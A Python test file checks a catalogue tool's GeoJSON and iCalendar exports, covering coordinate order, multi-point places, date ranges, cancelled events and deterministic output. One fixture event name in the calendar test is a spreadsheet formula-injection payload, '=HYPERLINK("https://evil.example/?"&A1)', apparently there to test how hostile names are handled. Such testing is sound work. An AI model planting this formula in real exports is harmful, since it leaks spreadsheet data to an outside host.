"""GeoJSON as shapely reads it, calendars as icalendar reads them."""

import json
from datetime import UTC, date, datetime

import icalendar
import shapely
import shapely.geometry

from export_support import exported
from vedette.export import calendar
from vedette.export.loading import found
from vedette.store import Catalogue, Filters


def test_shapely_reads_the_geojson(catalogue: Catalogue) -> None:
    text = exported("geojson", catalogue).decode()
    collection = json.loads(text)
    assert collection["type"] == "FeatureCollection"
    places = {f["properties"]["name"]: f["geometry"] for f in collection["features"]}
    assert len(places) == catalogue.count()["exercise"]
    point = shapely.geometry.shape(places["Kenso Shield 2019"])
    assert (point.x, point.y) == (130.84, -12.46)  # longitude first, RFC 7946
    assert point.within(shapely.box(110, -45, 155, -10))
    assert places["Frost Bell"] is None
    whole = shapely.from_geojson(json.dumps({**collection, "features": [f for f in collection["features"] if f["geometry"]]}))
    assert len(whole.geoms) == 2


def test_properties_are_those_of_the_wide_table(catalogue: Catalogue) -> None:
    features = json.loads(exported("geojson", catalogue))["features"]
    kenso = next(f["properties"] for f in features if f["properties"]["name"] == "Kenso Shield 2019")
    assert (kenso["participants"], kenso["first_day"], kenso["people_low"]) == (["AUS", "JPN"], "2019-07-01", 900)
    assert all(f["id"] == f["properties"]["id"] for f in features)


def test_several_places_are_several_points(catalogue: Catalogue) -> None:
    from vedette.export import geojson

    one = next(e for e in found(catalogue, Filters("kenso")))
    far = {"name": "Tokyo", "country": "JP", "lat": 35.7, "lon": 139.7}
    twice = type(one)({**one.record, "places": [*one.record["places"], far, far]}, *[getattr(one, n) for n in one.__slots__[1:]])
    made = shapely.geometry.shape(geojson.feature(twice)["geometry"])
    assert made.geom_type == "MultiPoint"
    assert len(made.geoms) == 2


def test_icalendar_reads_the_calendar(catalogue: Catalogue) -> None:
    read = icalendar.Calendar.from_ical(exported("ics", catalogue))
    events = {str(e["summary"]): e for e in read.walk("VEVENT")}
    assert set(events) == {
        "Kenso Shield 2019",
        '=HYPERLINK("https://evil.example/?"&A1) (days not exactly known)',
        "Red Lantern",
        "Still Water",
    }
    kenso = events["Kenso Shield 2019"]
    assert (kenso.decoded("dtstart"), kenso.decoded("dtend")) == (date(2019, 7, 1), date(2019, 7, 10))  # the end is the day after
    assert (kenso["geo"].latitude, kenso["geo"].longitude) == (-12.46, 130.84)
    assert str(kenso["location"]) == "Darwin"
    assert "Australia, Japan" in str(kenso["description"])
    assert "Southern Courier, 2019-07-10" in str(kenso["description"])
    assert str(events["Still Water"]["status"]) == "CANCELLED"
    month = next(e for name, e in events.items() if name.startswith("=HYPERLINK"))
    assert (month.decoded("dtstart"), month.decoded("dtend")) == (date(2020, 3, 1), date(2020, 4, 1))
    assert str(month["x-vedette-start"]) == "2020-03"
    assert events["Red Lantern"].decoded("dtend") == date(1985, 5, 6)
    assert not read.errors
    assert all(not e.errors for e in events.values())


def test_a_calendar_is_the_same_at_the_same_instant(catalogue: Catalogue) -> None:
    now = datetime(2031, 1, 2, 3, 4, 5, tzinfo=UTC)
    one, other = (b"".join(calendar.pieces(found(catalogue, Filters()), now)) for _ in range(2))
    assert one == other
    assert b"DTSTAMP:20310102T030405Z" in one
    assert all(len(line) <= 75 for line in one.split(b"\r\n"))  # RFC 5545 3.1
